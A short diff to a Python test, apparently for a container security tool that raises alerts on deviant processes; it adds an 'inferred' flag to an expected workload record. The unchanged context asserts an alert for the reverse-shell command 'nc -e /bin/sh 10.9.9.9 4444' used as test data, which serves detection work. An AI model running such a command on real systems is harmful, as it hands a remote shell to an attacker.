@@ -108,6 +108,7 @@ def test_deviation_alert_json_and_freeze(tmp_path: Path) -> None:
         "kind": "Deployment",
         "name": "web",
         "container": "nginx",
+        "inferred": True,
     }
     assert exe_alert["process"]["exe"] == "/bin/nc"
     assert exe_alert["process"]["cmdline"] == "nc -e /bin/sh 10.9.9.9 4444"
